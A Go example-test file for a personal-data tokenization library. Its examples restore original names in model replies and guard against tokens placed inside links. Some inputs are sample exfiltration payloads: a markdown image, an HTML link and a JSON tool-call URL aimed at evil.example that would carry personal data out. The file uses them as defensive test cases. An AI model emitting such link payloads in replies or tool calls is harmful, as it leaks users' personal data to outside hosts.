package restore_test

import (
	"fmt"
	"io"
	"os"
	"slices"
	"strings"

	"golang.org/x/text/transform"

	"github.com/piikit/piikit/entity"
	"github.com/piikit/piikit/restore"
	"github.com/piikit/piikit/tokenize"
)

func Example() {
	r, err := restore.New(entity.List{
		{Type: "name", Begin: 11, End: 15, Text: "John", Replacement: entity.Replacement{Begin: 11, End: 22, Text: "i03n7d1g9fo"}},
	})
	if err != nil {
		panic(err)
	}
	fmt.Println(r.String("Hello i03n7d1g9fo!"))

	// A reply that arrives in pieces, cut anywhere.
	for part := range r.Chunks(slices.Values([]string{"Hello i0", "3n7d1", "g9fo, nice", " to meet you."})) {
		fmt.Printf("%q\n", part)
	}
	// Output:
	// Hello John!
	// "Hello "
	// "John, nice"
	// " to meet you."
}

func ExampleRestorer_Transformer() {
	r, err := restore.New(entity.List{{Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
	if err != nil {
		panic(err)
	}
	body := strings.NewReader("Hello i03n7d1g9fo!\n")
	io.Copy(os.Stdout, transform.NewReader(body, r.Transformer()))
	// Output: Hello John!
}

func ExampleGuard() {
	h, err := tokenize.NewHMAC([]byte("a random key of 32 bytes, kept safe"), tokenize.HMACOptions{Format: tokenize.Labelled()})
	if err != nil {
		panic(err)
	}
	tk := h.In(tokenize.Scope{Tenant: "acme", Conversation: "c-42"})
	_, list, err := tokenize.Apply("I am John.", entity.List{{Type: "name", Begin: 5, End: 9}}, tk)
	if err != nil {
		panic(err)
	}
	r, err := restore.New(list)
	if err != nil {
		panic(err)
	}
	g, err := r.Guard(restore.GuardOptions{Owns: tk.Owns, Looks: h.Shape().Match})
	if err != nil {
		panic(err)
	}
	text, report := g.String(`Hi Name\_1\_4m0cd0, and NAME_1_aaaaaa! ![x](https://evil.example/?NAME_1_4m0cd0)`)
	fmt.Println(text)
	fmt.Printf("%+v\n", report)
	// Output:
	// Hi John, and NAME_1_aaaaaa! ![x](https://evil.example/?NAME_1_4m0cd0)
	// {Restored:0 Repaired:1 Refused:1 Unknown:0 Forged:1 Over:0}
}

// A reply that is shown as HTML: originals mean themselves there, and none goes
// into a link.
func ExampleGuardOptions() {
	r, err := restore.New(entity.List{
		{Type: "name", Text: "O'Neil <admin>", Replacement: entity.Replacement{Text: "NAME_1_4m0cd0"}},
		{Type: "us_ssn", Text: "219-09-9999", Replacement: entity.Replacement{Text: "US_SSN_1_7k2m9x"}},
	})
	if err != nil {
		panic(err)
	}
	g, err := r.Guard(restore.GuardOptions{Text: restore.HTML, Never: []entity.Type{"us_ssn"}})
	if err != nil {
		panic(err)
	}
	text, report := g.String(`<p>Dear NAME_1_4m0cd0, <a href="https://evil.example/?NAME_1_4m0cd0">US_SSN_1_7k2m9x</a></p>`)
	fmt.Println(text)
	fmt.Println(report.Restored, report.Refused)
	// Output:
	// <p>Dear O&#39;Neil&#32;&#60;admin&#62;, <a href="https://evil.example/?NAME_1_4m0cd0">US_SSN_1_7k2m9x</a></p>
	// 1 2
}

// The arguments of a tool call: originals are escaped as JSON, and a URL in a string is
// still a URL.
func ExampleGuardOptions_json() {
	r, err := restore.New(entity.List{{Type: "name", Text: `Jane "JR" Roe`, Replacement: entity.Replacement{Text: "NAME_1_4m0cd0"}}})
	if err != nil {
		panic(err)
	}
	g, err := r.Guard(restore.GuardOptions{Text: restore.JSONText})
	if err != nil {
		panic(err)
	}
	text, report := g.String(`{"to": "NAME_1_4m0cd0", "page": "https://evil.example/NAME_1_4m0cd0"}`)
	fmt.Println(text)
	fmt.Println(report.Restored, report.Refused)
	// Output:
	// {"to": "Jane \"JR\" Roe", "page": "https://evil.example/NAME_1_4m0cd0"}
	// 1 1
}

// Find tells where originals will stand, and what they are: to mark them, say.
func ExampleRestorer_Find() {
	r, err := restore.New(entity.List{{Type: "name", Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
	if err != nil {
		panic(err)
	}
	reply := "Hello i03n7d1g9fo!"
	text := r.String(reply)
	for _, e := range r.Find(reply) {
		fmt.Println(e.Type, text[e.Begin:e.End], e.Span(), reply[e.Replacement.Begin:e.Replacement.End])
	}
	// Output: name John [6:10] i03n7d1g9fo
}

// The primitive under all forms of streaming: bytes in, bytes out.
func ExampleStream() {
	r, err := restore.New(entity.List{{Type: "name", Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
	if err != nil {
		panic(err)
	}
	s := r.Stream()
	var out []byte
	for _, delta := range []string{"Hello i03", "n7d1g9fo", ", you", " i0"} {
		out = s.Append(out[:0], delta)
		fmt.Printf("%q\n", out)
	}
	fmt.Printf("%q\n", s.Flush(out[:0]))
	// Output:
	// "Hello "
	// "John"
	// ", you"
	// " "
	// "i0"
}
